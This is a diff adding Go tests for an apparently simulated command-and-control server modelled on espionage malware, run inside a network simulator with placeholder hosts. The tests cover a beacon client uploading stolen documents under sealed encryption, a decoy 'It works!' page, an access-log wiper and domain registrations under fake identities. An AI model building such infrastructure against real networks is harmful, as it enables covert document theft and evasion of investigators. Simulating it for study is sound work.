@@ -1,0 +1,364 @@
+package cnc
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"repro/internal/host"
+	"repro/internal/netsim"
+	"repro/internal/sim"
+)
+
+func testKernel() *sim.Kernel { return sim.NewKernel(sim.WithSeed(11)) }
+
+func TestSealOpenRoundTrip(t *testing.T) {
+	k := testKernel()
+	kp, err := NewSealKeypair(k.RNG())
+	if err != nil {
+		t.Fatalf("NewSealKeypair: %v", err)
+	}
+	for _, msg := range []string{"", "x", "a longer stolen document body with structure"} {
+		sealed, err := Seal(kp.Public, k.RNG(), []byte(msg))
+		if err != nil {
+			t.Fatalf("Seal: %v", err)
+		}
+		if msg != "" && bytes.Contains(sealed, []byte(msg)) {
+			t.Fatal("plaintext visible in sealed blob")
+		}
+		plain, err := kp.Open(sealed)
+		if err != nil {
+			t.Fatalf("Open: %v", err)
+		}
+		if string(plain) != msg {
+			t.Fatalf("round trip = %q, want %q", plain, msg)
+		}
+	}
+}
+
+func TestSealDifferentKeyCannotOpen(t *testing.T) {
+	k := testKernel()
+	kp1, _ := NewSealKeypair(k.RNG())
+	kp2, _ := NewSealKeypair(k.RNG())
+	sealed, _ := Seal(kp1.Public, k.RNG(), []byte("secret document"))
+	got, err := kp2.Open(sealed)
+	if err == nil && string(got) == "secret document" {
+		t.Fatal("wrong key decrypted the blob")
+	}
+}
+
+func TestOpenTruncated(t *testing.T) {
+	k := testKernel()
+	kp, _ := NewSealKeypair(k.RNG())
+	if _, err := kp.Open([]byte("short")); !errors.Is(err, ErrSealedTooShort) {
+		t.Fatalf("err = %v", err)
+	}
+}
+
+func TestPackageWireRoundTrip(t *testing.T) {
+	pkgs := []*Package{
+		{Name: "module:snack", Target: "client-1", Payload: []byte{1, 2, 3}},
+		{Name: PkgDomainUpdate, Payload: []byte("a.example\nb.example")},
+	}
+	got, err := DecodePackages(encodePackages(pkgs))
+	if err != nil {
+		t.Fatalf("DecodePackages: %v", err)
+	}
+	if len(got) != 2 || got[0].Name != "module:snack" || got[0].Target != "client-1" {
+		t.Fatalf("got = %+v", got[0])
+	}
+	if !bytes.Equal(got[1].Payload, pkgs[1].Payload) {
+		t.Fatal("payload mismatch")
+	}
+}
+
+func TestPackageWireHostile(t *testing.T) {
+	raw := encodePackages([]*Package{{Name: "x", Payload: []byte("y")}})
+	for i := 0; i < len(raw); i++ {
+		if _, err := DecodePackages(raw[:i]); err == nil {
+			t.Fatalf("accepted %d-byte prefix", i)
+		}
+	}
+	if _, err := DecodePackages(append(raw, 0)); err == nil {
+		t.Fatal("accepted trailing bytes")
+	}
+}
+
+func testServer(t *testing.T) (*sim.Kernel, *netsim.Internet, *Server, *SealKeypair) {
+	t.Helper()
+	k := testKernel()
+	in := netsim.NewInternet(k)
+	kp, err := NewSealKeypair(k.RNG())
+	if err != nil {
+		t.Fatalf("NewSealKeypair: %v", err)
+	}
+	s := NewServer(k, in, "203.0.113.10", kp.Public)
+	return k, in, s, kp
+}
+
+func clientReq(cmd, client, name string, body []byte) *netsim.Request {
+	return &netsim.Request{
+		Method: "POST", Host: "203.0.113.10", Path: ClientPath,
+		Query: map[string]string{"cmd": cmd, "client": client, "type": string(ClientFL), "name": name},
+		Body:  body, Source: client,
+	}
+}
+
+func TestServerGetNewsAdsAndBroadcast(t *testing.T) {
+	_, in, s, _ := testServer(t)
+	s.PushAd("victim-1", &Package{Name: "module:custom", Payload: []byte("targeted")})
+	s.PushNews(&Package{Name: "module:update", Payload: []byte("for-everyone")})
+
+	resp, err := in.Dispatch(clientReq(CmdGetNews, "victim-1", "", nil))
+	if err != nil || resp.Status != 200 {
+		t.Fatalf("dispatch: %v %v", err, resp)
+	}
+	pkgs, err := DecodePackages(resp.Body)
+	if err != nil || len(pkgs) != 2 {
+		t.Fatalf("packages = %v, %v", pkgs, err)
+	}
+
+	// Ads are consumed; news is delivered once per client.
+	resp, _ = in.Dispatch(clientReq(CmdGetNews, "victim-1", "", nil))
+	pkgs, _ = DecodePackages(resp.Body)
+	if len(pkgs) != 0 {
+		t.Fatalf("second fetch = %d packages, want 0", len(pkgs))
+	}
+
+	// Another client still receives the broadcast, not the ad.
+	resp, _ = in.Dispatch(clientReq(CmdGetNews, "victim-2", "", nil))
+	pkgs, _ = DecodePackages(resp.Body)
+	if len(pkgs) != 1 || pkgs[0].Name != "module:update" {
+		t.Fatalf("victim-2 packages = %+v", pkgs)
+	}
+}
+
+func TestServerClientBookkeeping(t *testing.T) {
+	k, in, s, _ := testServer(t)
+	in.Dispatch(clientReq(CmdGetNews, "victim-1", "", nil))
+	k.RunFor(time.Hour)
+	in.Dispatch(clientReq(CmdGetNews, "victim-1", "", nil))
+	rec := s.DB.Clients["victim-1"]
+	if rec == nil || rec.Contacts != 2 || rec.Type != ClientFL {
+		t.Fatalf("record = %+v", rec)
+	}
+	if !rec.LastSeen.After(rec.FirstSeen) {
+		t.Fatal("LastSeen not updated")
+	}
+}
+
+func TestServerAddEntryAndOperatorCannotRead(t *testing.T) {
+	k, in, s, kp := testServer(t)
+	sealed, _ := Seal(kp.Public, k.RNG(), []byte("design.dwg contents"))
+	resp, err := in.Dispatch(clientReq(CmdAddEntry, "victim-1", "design.dwg", sealed))
+	if err != nil || resp.Status != 200 {
+		t.Fatalf("ADD_ENTRY: %v %v", err, resp)
+	}
+	if s.PendingEntries() != 1 || s.TotalEntryBytes != int64(len(sealed)) {
+		t.Fatalf("entries = %d bytes = %d", s.PendingEntries(), s.TotalEntryBytes)
+	}
+	entries := s.FetchEntries()
+	if len(entries) != 1 || entries[0].Name != "design.dwg" {
+		t.Fatalf("entries = %+v", entries)
+	}
+	// Sealed payload is not plaintext.
+	if bytes.Contains(entries[0].Sealed, []byte("design.dwg contents")) {
+		t.Fatal("entry stored in plaintext")
+	}
+	// Coordinator recovers it.
+	plain, err := kp.Open(entries[0].Sealed)
+	if err != nil || string(plain) != "design.dwg contents" {
+		t.Fatalf("Open: %v %q", err, plain)
+	}
+	// Fetch marks retrieved: second fetch empty.
+	if len(s.FetchEntries()) != 0 {
+		t.Fatal("entries fetched twice")
+	}
+}
+
+func TestServerBadRequests(t *testing.T) {
+	_, in, _, _ := testServer(t)
+	resp, _ := in.Dispatch(&netsim.Request{Host: "203.0.113.10", Path: ClientPath, Query: map[string]string{"cmd": CmdGetNews}})
+	if resp.Status != 400 {
+		t.Fatalf("missing client id: status %d", resp.Status)
+	}
+	resp, _ = in.Dispatch(clientReq("WHO_ARE_YOU", "x", "", nil))
+	if resp.Status != 400 {
+		t.Fatalf("unknown command: status %d", resp.Status)
+	}
+	// Disguise page.
+	resp, _ = in.Dispatch(&netsim.Request{Host: "203.0.113.10", Path: "/"})
+	if resp.Status != 200 || !strings.Contains(string(resp.Body), "It works!") {
+		t.Fatalf("disguise = %v", resp)
+	}
+}
+
+func TestLogWiper(t *testing.T) {
+	_, in, s, _ := testServer(t)
+	in.Dispatch(clientReq(CmdGetNews, "v", "", nil))
+	if s.AccessLogLen() == 0 {
+		t.Fatal("no access log accumulated")
+	}
+	s.RunLogWiper()
+	if s.AccessLogLen() != 0 || !s.LogWiperRan {
+		t.Fatal("LogWiper ineffective")
+	}
+}
+
+func TestCleanupRetention(t *testing.T) {
+	k, in, s, kp := testServer(t)
+	s.StartCleanup(30 * time.Minute)
+	sealed, _ := Seal(kp.Public, k.RNG(), []byte("doc"))
+	in.Dispatch(clientReq(CmdAddEntry, "v", "a.docx", sealed))
+	// Not yet retrieved: survives indefinitely.
+	k.RunFor(2 * time.Hour)
+	if s.PendingEntries() != 1 {
+		t.Fatalf("unretrieved entry removed: %d", s.PendingEntries())
+	}
+	s.FetchEntries()
+	k.RunFor(2 * time.Hour)
+	if s.PendingEntries() != 0 {
+		t.Fatalf("retrieved entry not cleaned: %d", s.PendingEntries())
+	}
+	s.StopCleanup()
+}
+
+func TestDomainPoolShape(t *testing.T) {
+	k := testKernel()
+	pool := NewDomainPool(k.RNG(), DefaultDomainCount, DefaultServerIPCount)
+	if len(pool.Domains()) != DefaultDomainCount {
+		t.Fatalf("domains = %d", len(pool.Domains()))
+	}
+	if len(pool.IPs()) != DefaultServerIPCount {
+		t.Fatalf("IPs = %d", len(pool.IPs()))
+	}
+	// Registrations carry fake identities in DE/AT.
+	for _, r := range pool.Registrations {
+		if r.Country != "Germany" && r.Country != "Austria" {
+			t.Fatalf("country = %q", r.Country)
+		}
+		if r.Registrar == "" || r.Identity == "" {
+			t.Fatalf("registration incomplete: %+v", r)
+		}
+	}
+	if got := pool.BootstrapConfig(BootstrapDomains); len(got) != 5 {
+		t.Fatalf("bootstrap = %d", len(got))
+	}
+}
+
+func TestDomainPoolRegisterUnregister(t *testing.T) {
+	k := testKernel()
+	in := netsim.NewInternet(k)
+	pool := NewDomainPool(k.RNG(), 10, 3)
+	pool.RegisterAll(in)
+	if len(in.Domains()) != 10 || in.DistinctServerIPs() != 3 {
+		t.Fatalf("registered %d domains, %d IPs", len(in.Domains()), in.DistinctServerIPs())
+	}
+	pool.UnregisterAll(in)
+	if len(in.Domains()) != 0 {
+		t.Fatal("takedown incomplete")
+	}
+}
+
+func TestAttackCenterEndToEnd(t *testing.T) {
+	k := testKernel()
+	in := netsim.NewInternet(k)
+	center, err := NewAttackCenter(k, in, 20, 4)
+	if err != nil {
+		t.Fatalf("NewAttackCenter: %v", err)
+	}
+	if len(center.Servers) != 4 {
+		t.Fatalf("servers = %d", len(center.Servers))
+	}
+	center.Admin().ProvisionAll(30 * time.Minute)
+	for _, s := range center.Servers {
+		if !s.LogWiperRan {
+			t.Fatal("admin provisioning skipped a server")
+		}
+	}
+
+	// A victim host checks in and uploads through the beacon client.
+	l := netsim.NewLAN(k, "office", "10.0.0", in)
+	victim := host.New(k, "VICTIM", host.WithInternet(true))
+	l.Attach(victim)
+	bc := &BeaconClient{
+		ID: "victim-1", Type: ClientFL,
+		Domains: center.Pool.BootstrapConfig(BootstrapDomains),
+		SealPub: center.Seal.Public,
+	}
+	center.Operator().PushCommandAll(PkgDomainUpdate, []byte(strings.Join(center.Pool.BootstrapConfig(PostContactDomains), "\n")))
+	pkgs, err := bc.Contact(l, victim)
+	if err != nil {
+		t.Fatalf("Contact: %v", err)
+	}
+	if len(pkgs) != 1 {
+		t.Fatalf("pkgs = %d", len(pkgs))
+	}
+	if len(bc.Domains) != PostContactDomains {
+		t.Fatalf("domains after update = %d, want %d", len(bc.Domains), PostContactDomains)
+	}
+	if err := bc.Upload(l, victim, "secret.docx", []byte("contents")); err != nil {
+		t.Fatalf("Upload: %v", err)
+	}
+
+	// Operator collects but cannot read.
+	op := center.Operator()
+	if n := op.CollectAll(); n != 1 {
+		t.Fatalf("collected = %d", n)
+	}
+	if _, err := op.TryRead(op.SealedInbox()[0]); !errors.Is(err, ErrOperatorCannotDecrypt) {
+		t.Fatalf("TryRead err = %v", err)
+	}
+	// Coordinator decrypts.
+	n, err := center.Coordinator().DecryptAll()
+	if err != nil || n != 1 {
+		t.Fatalf("DecryptAll: %d %v", n, err)
+	}
+	docs := center.Coordinator().Archive()
+	if len(docs) != 1 || string(docs[0].Data) != "contents" || docs[0].Name != "secret.docx" {
+		t.Fatalf("archive = %+v", docs)
+	}
+	if center.TotalStolenBytes() <= 0 {
+		t.Fatal("TotalStolenBytes not counted")
+	}
+}
+
+func TestBeaconClientNoServer(t *testing.T) {
+	k := testKernel()
+	in := netsim.NewInternet(k)
+	l := netsim.NewLAN(k, "office", "10.0.0", in)
+	h := host.New(k, "H", host.WithInternet(true))
+	l.Attach(h)
+	bc := &BeaconClient{ID: "x", Type: ClientFL, Domains: []string{"dead.example"}}
+	if _, err := bc.Contact(l, h); !errors.Is(err, ErrNoServer) {
+		t.Fatalf("err = %v", err)
+	}
+	kp, _ := NewSealKeypair(k.RNG())
+	bc.SealPub = kp.Public
+	if err := bc.Upload(l, h, "n", []byte("d")); !errors.Is(err, ErrNoServer) {
+		t.Fatalf("upload err = %v", err)
+	}
+}
+
+func TestBeaconClientTriesDomainsInOrder(t *testing.T) {
+	k := testKernel()
+	in := netsim.NewInternet(k)
+	kp, _ := NewSealKeypair(k.RNG())
+	s := NewServer(k, in, "203.0.113.99", kp.Public)
+	in.RegisterDomain("alive.example", "203.0.113.99")
+	l := netsim.NewLAN(k, "office", "10.0.0", in)
+	h := host.New(k, "H", host.WithInternet(true))
+	l.Attach(h)
+	bc := &BeaconClient{ID: "c", Type: ClientSP, Domains: []string{"dead1.example", "dead2.example", "alive.example"}, SealPub: kp.Public}
+	if _, err := bc.Contact(l, h); err != nil {
+		t.Fatalf("Contact: %v", err)
+	}
+	if !bc.Contacted {
+		t.Fatal("Contacted flag unset")
+	}
+	if s.DB.Clients["c"] == nil || s.DB.Clients["c"].Type != ClientSP {
+		t.Fatal("server did not record client")
+	}
+}
